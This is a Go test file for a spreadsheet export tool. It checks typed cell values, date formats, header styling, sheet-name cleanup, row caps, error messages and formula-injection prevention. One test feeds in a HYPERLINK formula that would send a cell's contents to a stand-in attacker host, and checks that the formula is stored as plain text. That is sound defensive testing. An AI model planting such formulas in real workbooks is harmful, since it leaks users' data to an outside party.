package export_test

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/bichat-go/bichat/domain"
	"github.com/bichat-go/bichat/tools/export"
)

func openWorkbook(t *testing.T, content []byte) *excelize.File {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatalf("workbook does not open: %v", err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}

func numFmt(t *testing.T, x *excelize.File, sheet, cell string) (string, bool) {
	t.Helper()
	id, err := x.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := x.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	bold := st.Font != nil && st.Font.Bold
	if st.CustomNumFmt != nil {
		return *st.CustomNumFmt, bold
	}
	return "", bold
}

// TestExcelTypedValues: the workbook reads back with excelize with the
// same typed values: number cells are numbers, dates are date-formatted
// serials that convert back to the same time, booleans are booleans,
// text is text; the header is bold and frozen, with an auto filter.
func TestExcelTypedValues(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	src := cities(40)
	f.results.Put(f.ctx, src)
	tool, err := export.NewExcel(export.ExcelConfig{Results: f.results, Store: f.store})
	if err != nil {
		t.Fatal(err)
	}
	res, err := call(t, f.ctx, tool, map[string]any{"title": "City report: Q1/2024", "sheets": []map[string]any{
		{"name": "Cities", "data": map[string]any{"ref": "result_1"}},
		{"name": "Inline", "data": map[string]any{"columns": []string{"when", "amount", "label"},
			"rows": [][]any{{"2024-03-01", 12.5, "a"}, {"2024-03-02T10:30:00Z", 7, "b"}}}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	file := res.Payload.(export.File)
	if len(res.Artifacts) != 1 || res.Artifacts[0].Kind != domain.ArtifactFile || res.Artifacts[0].MediaType != domain.MediaTypeXLSX ||
		res.Artifacts[0].Name != "City_report_Q1_2024.xlsx" {
		t.Fatalf("artifacts = %+v", res.Artifacts)
	}
	// The stored bytes are the workbook.
	rc, _, err := f.store.Get(f.ctx, "acme", res.Artifacts[0].SHA256)
	if err != nil {
		t.Fatal(err)
	}
	var stored bytes.Buffer
	stored.ReadFrom(rc)
	rc.Close()
	if !bytes.Equal(stored.Bytes(), file.Content) {
		t.Fatal("stored workbook differs from the payload")
	}
	x := openWorkbook(t, stored.Bytes())
	if got := x.GetSheetList(); strings.Join(got, ",") != "Cities,Inline" {
		t.Fatalf("sheets = %v", got)
	}
	if props, _ := x.GetDocProps(); props.Title != "City report: Q1/2024" {
		t.Errorf("title property = %q", props.Title)
	}
	rows, err := x.GetRows("Cities", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 41 {
		t.Fatalf("%d rows, want header + 40", len(rows))
	}
	for c, col := range src.Columns {
		if rows[0][c] != col.Name {
			t.Errorf("header %d = %q, want %q", c, rows[0][c], col.Name)
		}
		cell, _ := excelize.CoordinatesToCellName(c+1, 1)
		if _, bold := numFmt(t, x, "Cities", cell); !bold {
			t.Errorf("header %s is not bold", cell)
		}
	}
	for r, row := range src.Rows {
		for c, want := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+2)
			typ, err := x.GetCellType("Cities", cell)
			if err != nil {
				t.Fatal(err)
			}
			raw := ""
			if c < len(rows[r+1]) {
				raw = rows[r+1][c]
			}
			switch w := want.(type) {
			case int64, float64:
				if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
					t.Fatalf("%s: cell type %v, want a number", cell, typ)
				}
				got, err := strconv.ParseFloat(raw, 64)
				wf, _ := strconvNumber(w)
				if err != nil || got != wf {
					t.Fatalf("%s = %q, want the number %v", cell, raw, w)
				}
			case time.Time:
				serial, err := strconv.ParseFloat(raw, 64)
				if err != nil || (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) {
					t.Fatalf("%s = %q (type %v), want a date serial", cell, raw, typ)
				}
				got, err := excelize.ExcelDateToTime(serial, false)
				if err != nil || !got.Equal(w) {
					t.Fatalf("%s = %v, want %v", cell, got, w)
				}
				format, _ := numFmt(t, x, "Cities", cell)
				wantFmt := "yyyy-mm-dd"
				if c == 4 {
					wantFmt = "yyyy-mm-dd hh:mm:ss"
				}
				if format != wantFmt {
					t.Fatalf("%s number format %q, want %q", cell, format, wantFmt)
				}
				shown, _ := x.GetCellValue("Cities", cell)
				if c == 1 && shown != w.Format("2006-01-02") {
					t.Fatalf("%s shows %q", cell, shown)
				}
			case bool:
				if typ != excelize.CellTypeBool || raw != map[bool]string{true: "1", false: "0"}[w] {
					t.Fatalf("%s = %q (type %v), want boolean %v", cell, raw, typ, w)
				}
			case string:
				if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Fatalf("%s: type %v, want text", cell, typ)
				}
				if raw != w {
					t.Fatalf("%s = %q, want %q", cell, raw, w)
				}
			case nil:
				if raw != "" {
					t.Fatalf("%s = %q, want empty", cell, raw)
				}
			}
		}
	}
	// Inline ISO strings became dates; numbers stayed numbers.
	if format, _ := numFmt(t, x, "Inline", "A2"); format != "yyyy-mm-dd hh:mm:ss" {
		t.Errorf("inline date column format %q", format)
	}
	if v, _ := x.GetCellValue("Inline", "A3"); v != "2024-03-02 10:30:00" {
		t.Errorf("inline timestamp shows %q", v)
	}
	if v, _ := x.GetCellValue("Inline", "B2", excelize.Options{RawCellValue: true}); v != "12.5" {
		t.Errorf("inline number = %q", v)
	}
	// Frozen header, auto filter over the data, widths from content.
	panes, err := x.GetPanes("Cities")
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, %v", panes, err)
	}
	var filter string
	for _, dn := range x.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" && dn.Scope == "Cities" {
			filter = dn.RefersTo
		}
	}
	if filter != "'Cities'!$A$1:$G$41" {
		t.Errorf("auto filter = %q, want 'Cities'!$A$1:$G$41", filter)
	}
	wCity, _ := x.GetColWidth("Cities", "A")
	wUpdated, _ := x.GetColWidth("Cities", "E")
	if wUpdated < 19 || wCity >= wUpdated {
		t.Errorf("column widths city %.1f, updated_at %.1f: want widths from the content", wCity, wUpdated)
	}
	for _, w := range []string{`"Cities" from result_1, 40 rows × 7 columns`, `"Inline" from inline, 2 rows × 3 columns`, "City_report_Q1_2024.xlsx"} {
		if !strings.Contains(res.Summary, w) {
			t.Errorf("summary %q lacks %q", res.Summary, w)
		}
	}
	if strings.Contains(res.Summary, "Zürich") {
		t.Errorf("summary leaks row values: %q", res.Summary)
	}
	if len(res.Datasets) != 1 || res.Datasets[0] != "cities" {
		t.Errorf("datasets = %v", res.Datasets)
	}
}

func strconvNumber(v any) (float64, bool) {
	switch x := v.(type) {
	case int64:
		return float64(x), true
	case float64:
		return x, true
	}
	return 0, false
}

// TestExcelCapsAndNames: a sheet over the row cap is cut with a note in
// the sheet and in the summary; sheet names are made valid and unique.
func TestExcelCapsAndNames(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	big := cities(30)
	big.Truncated = true
	f.results.Put(f.ctx, big)
	tool, err := export.NewExcel(export.ExcelConfig{Results: f.results, Store: f.store, MaxRows: 25})
	if err != nil {
		t.Fatal(err)
	}
	ref := map[string]any{"ref": "result_1"}
	res, err := call(t, f.ctx, tool, map[string]any{"title": "caps", "sheets": []map[string]any{
		{"name": "a/b:c*d?e[f]g\\h", "data": ref},
		{"name": "A_B_C_D_E_F_G_H", "data": ref},
		{"name": strings.Repeat("Long name ", 5), "data": ref},
		{"name": strings.Repeat("Long name ", 5), "data": ref},
		{"name": "history", "data": ref},
		{"data": ref},
	}})
	if err != nil {
		t.Fatal(err)
	}
	file := res.Payload.(export.File)
	x := openWorkbook(t, file.Content)
	want := []string{"a_b_c_d_e_f_g_h", "A_B_C_D_E_F_G_H (2)", "Long name Long name Long name L", "Long name Long name Long na (2)", "history_", "result_1"}
	if got := x.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("sheet names = %q\nwant          %q", got, want)
	}
	for _, n := range want {
		if len([]rune(n)) > 31 {
			t.Errorf("sheet name %q is over 31 characters", n)
		}
	}
	rows, _ := x.GetRows("result_1")
	if len(rows) != 1+25+3 {
		t.Fatalf("%d rows in a capped sheet, want header + 25 + blank + 2 notes", len(rows))
	}
	if rows[27][0] != "Showing the first 25 of 30 rows." || !strings.Contains(rows[28][0], "truncated") {
		t.Errorf("notes = %q, %q", rows[27], rows[28])
	}
	for _, w := range []string{"shows the first 25 of 30 rows", "truncated result", `sheet name "a/b:c*d?e[f]g\\h" became "a_b_c_d_e_f_g_h"`} {
		if !strings.Contains(res.Summary, w) {
			t.Errorf("summary %q lacks %q", res.Summary, w)
		}
	}
	if file.Sheets[0].Rows != 25 || file.Sheets[0].SourceRows != 30 {
		t.Errorf("sheet info = %+v", file.Sheets[0])
	}
}

func TestExcelErrors(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	tool, err := export.NewExcel(export.ExcelConfig{Results: f.results, Store: f.store, MaxSheets: 2})
	if err != nil {
		t.Fatal(err)
	}
	inline := map[string]any{"columns": []string{"a"}, "rows": [][]any{{1}}}
	for _, tc := range []struct {
		args map[string]any
		want string
	}{
		{map[string]any{"title": " ", "sheets": []map[string]any{{"data": inline}}}, "title is empty"},
		{map[string]any{"title": "x", "sheets": []map[string]any{{"data": map[string]any{"ref": "result_7"}}}}, `sheets[0].data.ref: tools: no result called "result_7"`},
		{map[string]any{"title": "x", "sheets": []map[string]any{{"data": inline}, {"data": inline}, {"data": inline}}}, "3 sheets is more than the 2 allowed"},
		{map[string]any{"title": "x", "sheets": []map[string]any{{"data": map[string]any{"columns": []string{"a", "b"}, "rows": [][]any{{1}}}}}}, "sheets[0].data.rows[0] has 1 values for 2 columns"},
	} {
		_, err := call(t, f.ctx, tool, tc.args)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%v: error %v, want %q", tc.args, err, tc.want)
		}
	}
	// Schema: sheets must be present.
	if _, err := call(t, f.ctx, tool, map[string]any{"title": "x"}); err == nil {
		t.Error("missing sheets accepted")
	}
	if _, err := export.NewExcel(export.ExcelConfig{}); err == nil {
		t.Error("NewExcel without a store succeeded")
	}
	if _, _, _, err := export.WriteWorkbook(nil, export.WorkbookOptions{}); err == nil {
		t.Error("WriteWorkbook without sheets succeeded")
	}
}

// TestExcelNoFormulas: text that looks like a formula stays text, so a
// query result cannot plant a formula in the user's workbook.
func TestExcelNoFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	tool, err := export.NewExcel(export.ExcelConfig{Store: f.store})
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	res, err := call(t, f.ctx, tool, map[string]any{"title": "x", "sheets": []map[string]any{
		{"data": map[string]any{"columns": []string{"v"}, "rows": [][]any{{evil}, {"+1+2"}}}}}})
	if err != nil {
		t.Fatal(err)
	}
	x := openWorkbook(t, res.Payload.(export.File).Content)
	for _, cell := range []string{"A2", "A3"} {
		if formula, _ := x.GetCellFormula("inline", cell); formula != "" {
			t.Errorf("%s has formula %q", cell, formula)
		}
		if typ, _ := x.GetCellType("inline", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s type %v, want text", cell, typ)
		}
	}
	if v, _ := x.GetCellValue("inline", "A2"); v != evil {
		t.Errorf("A2 = %q", v)
	}
}
